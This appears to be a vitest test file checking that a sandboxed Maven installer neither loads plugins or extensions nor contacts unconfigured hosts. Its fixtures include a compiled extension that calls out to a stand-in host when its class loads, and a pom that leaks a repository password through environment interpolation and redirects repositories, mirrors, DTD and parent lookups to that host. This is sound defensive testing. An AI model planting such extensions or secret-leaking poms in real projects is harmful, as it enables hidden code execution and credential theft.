/** Poms that want code to run, or other hosts to be asked, while their packages are fetched: neither happens. */
import { exec, execFileSync } from "node:child_process";
import { createHash } from "node:crypto";
import { mkdirSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { dirname, join } from "node:path";
import { promisify } from "node:util";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createInstall } from "../../lib/evaluator/packages/install.ts";
import { findInstallSeal } from "../../lib/sandbox/install-seal.ts";
import { unsealed } from "../../lib/sandbox/seal.ts";
import { layTree, newFolder, removeFolders, toolchain } from "../doubles/evaluation.ts";

const { javac, mvn } = toolchain.tools;

/** A host that remembers what it was asked. */
async function serve(files: Map<string, Buffer> = new Map()) {
  const asked: string[] = [];
  const authorizations = new Set<string | undefined>();
  const server = createServer((request, response) => {
    const path = request.url ?? "";
    asked.push(path);
    authorizations.add(request.headers.authorization);
    const found = files.get(path.replace(/\.sha1$/, ""));
    response.statusCode = found ? 200 : 404;
    response.end(found && path.endsWith(".sha1") ? createHash("sha1").update(found).digest("hex") : found);
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    asked,
    authorizations,
    close: () => server.close(),
  };
}

const files = new Map<string, Buffer>();
let repository: Awaited<ReturnType<typeof serve>>;
let elsewhere: Awaited<ReturnType<typeof serve>>;

beforeAll(async () => {
  if (!javac || !mvn) return;
  repository = await serve(files);
  elsewhere = await serve();
  const jar = extensionJar();
  for (const name of ["extension", "plugin", "core"]) publish("evil", name, "", jar);
  // Maven adds it to every plugin.
  const added = "/org/codehaus/plexus/plexus-utils/1.1/plexus-utils-1.1";
  const addedPom = `<project><modelVersion>4.0.0</modelVersion><groupId>org.codehaus.plexus</groupId><artifactId>plexus-utils</artifactId><version>1.1</version></project>`;
  files.set(`${added}.pom`, Buffer.from(addedPom)).set(`${added}.jar`, jar);
  publish("evil", "parent", "<packaging>pom</packaging>");
  publish(
    "good",
    "lib",
    `<repositories><repository><id>own</id><url>${elsewhere.url}</url></repository></repositories>
    <dependencies><dependency><groupId>only</groupId><artifactId>there</artifactId><version>1</version></dependency></dependencies>`,
  );
});
afterAll(() => {
  repository?.close();
  elsewhere?.close();
  removeFolders();
});

const coordinates = (group: string, name: string): string =>
  `<groupId>${group}</groupId><artifactId>${name}</artifactId><version>1</version>`;

function publish(group: string, name: string, more: string, jar: Buffer = Buffer.from("")): void {
  const text = `<project><modelVersion>4.0.0</modelVersion>${coordinates(group, name)}${more}</project>`;
  files.set(`/${group}/${name}/1/${name}-1.pom`, Buffer.from(text));
  files.set(`/${group}/${name}/1/${name}-1.jar`, jar);
}

/** Asks the other host as soon as its class is loaded. */
function extensionJar(): Buffer {
  const source = `import org.apache.maven.AbstractMavenLifecycleParticipant;
    public class Evil extends AbstractMavenLifecycleParticipant {
      static { try { new java.net.URL("${elsewhere.url}/ran").openStream().close(); } catch (Exception e) { } }
    }`;
  const component = `<component-set><components><component><role>org.apache.maven.AbstractMavenLifecycleParticipant</role>
    <role-hint>evil</role-hint><implementation>Evil</implementation></component></components></component-set>`;
  const folder = layTree({ "Evil.java": source, "jar/META-INF/plexus/components.xml": component });
  const classes = join(folder, "jar");
  execFileSync(javac?.program ?? "", ["-cp", `${mvn?.root}/lib/*`, "-d", classes, join(folder, "Evil.java")]);
  execFileSync(join(dirname(javac?.program ?? ""), "jar"), ["cf", join(folder, "evil.jar"), "-C", classes, "."]);
  return readFileSync(join(folder, "evil.jar"));
}

const secret = `\${env.MAVEN_REPOSITORY_PASSWORD}`;
const evilTree = (): Record<string, string> => ({
  "pom.xml": `<?xml version="1.0"?><!DOCTYPE project SYSTEM "${elsewhere.url}/x.dtd">
    <project><modelVersion>4.0.0</modelVersion>${coordinates("shop", "shop")}
    <parent>${coordinates("evil", "parent")}<relativePath>${elsewhere.url}/pom.xml</relativePath></parent>
    <distributionManagement><repository><id>d</id><url>${elsewhere.url}</url></repository></distributionManagement>
    <repositories><repository><id>central</id><url>${elsewhere.url}</url></repository></repositories>
    <pluginRepositories><pluginRepository><id>p</id><url>${elsewhere.url}</url></pluginRepository></pluginRepositories>
    <dependencies><dependency>${coordinates("good", "lib")}</dependency>
      <dependency><groupId>leak</groupId><artifactId>leak</artifactId><version>${secret}</version></dependency></dependencies>
    <build><extensions><extension>${coordinates("evil", "extension")}</extension></extensions>
      <plugins><plugin>${coordinates("evil", "plugin")}<extensions>true</extensions></plugin></plugins></build></project>`,
  ".mvn/extensions.xml": `<extensions><extension>${coordinates("evil", "core")}</extension></extensions>`,
  ".mvn/jvm.config": "-javaagent:evil.jar",
  ".mvn/maven.config": "-s evil.xml -Dmaven.repo.local=/tmp/elsewhere",
  "evil.xml": `<settings><mirrors><mirror><id>m</id><mirrorOf>*</mirrorOf><url>${elsewhere.url}</url></mirror></mirrors></settings>`,
});

async function install(tree: Record<string, string>) {
  const folder = newFolder();
  const given = { folder: newFolder(), path: toolchain.path.split(":"), node: toolchain.node };
  const env = { MAVEN_REPOSITORY: repository.url, MAVEN_REPOSITORY_USER: "u", MAVEN_REPOSITORY_PASSWORD: "hunter2" };
  let ids = 0;
  const installed = await createInstall({
    folder,
    toolchain: { ...toolchain, tools: { javac, mvn } },
    seal: findInstallSeal({ ...given, readable: toolchain.readable }) ?? unsealed("tests"),
    settings: async () => ({ env, readable: [] }),
    isOpen: false,
    claim: () => {},
    now: Date.now,
    newId: () => String(ids++),
    announce: () => {},
  })(layTree(tree), { timeoutMs: 100_000 });
  return { installed, folder };
}

describe.skipIf(!javac || !mvn)("the installer of Maven (needs a JDK and mvn)", () => {
  it("loads no plugin and no extension, and asks no host but the configured one", async () => {
    const { installed, folder } = await install(evilTree());
    expect(elsewhere.asked).toEqual([]);
    for (const name of ["extension", "plugin", "core"])
      expect(repository.asked).toContain(`/evil/${name}/1/${name}-1.jar`);
    expect(repository.asked).toContain("/good/lib/1/lib-1.jar");
    expect(repository.asked.join()).not.toContain("hunter2");
    expect([...repository.authorizations]).toEqual([`Basic ${Buffer.from("u:hunter2").toString("base64")}`]);
    expect(installed.missing.join("\n")).toContain("only:there:jar:1");
    const made = readdirSync(folder, { recursive: true }).map(String);
    expect(made.some((path) => path.endsWith("repository/evil/extension/1/extension-1.jar"))).toBe(true);
    expect(installed.env.MAVEN_OPTS).toContain(folder);
  });

  it("is attacked by what Maven itself would run", async () => {
    const home = newFolder();
    const settings = join(home, "settings.xml");
    const mirror = `<mirror><id>m</id><mirrorOf>*</mirrorOf><url>${repository.url}</url></mirror>`;
    writeFileSync(settings, `<settings><mirrors>${mirror}</mirrors></settings>`);
    mkdirSync(join(home, "repository"));
    const pom = `<project><modelVersion>4.0.0</modelVersion>${coordinates("shop", "shop")}<packaging>pom</packaging>
      <build><extensions><extension>${coordinates("evil", "extension")}</extension></extensions></build></project>`;
    const script = `cd '${layTree({ "pom.xml": pom })}' && '${mvn?.program}' -B -s '${settings}' '-Dmaven.repo.local=${home}/repository' validate`;
    // Not waited for in one step: this process serves.
    const printed = await promisify(exec)(script).then(
      ({ stdout }) => stdout,
      (problem) => problem.stdout,
    );
    expect(elsewhere.asked, printed).toContain("/ran");
  });
});
